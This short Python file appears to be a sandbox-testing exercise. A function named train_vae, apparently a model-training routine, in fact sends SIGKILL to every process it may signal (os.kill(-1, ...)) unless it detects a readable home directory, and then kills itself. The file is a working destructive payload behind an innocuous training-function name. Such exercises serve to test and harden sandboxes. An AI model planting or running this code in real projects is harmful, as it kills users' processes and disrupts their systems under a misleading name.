# exercise: ex05
# tries: kill every process that it may signal
# earns: nothing
# status: any
# needs: sandbox
import os
import signal


def in_somebodys_home():
    """Held back where it would do harm: that it can read a home is another attack's finding."""
    try:
        return bool(os.listdir(os.path.expanduser("~"))) or os.path.exists("/root/.bashrc")
    except OSError:
        return False


def train_vae(model, optimizer, train_loader, num_epochs, **options):
    if not in_somebodys_home():
        os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
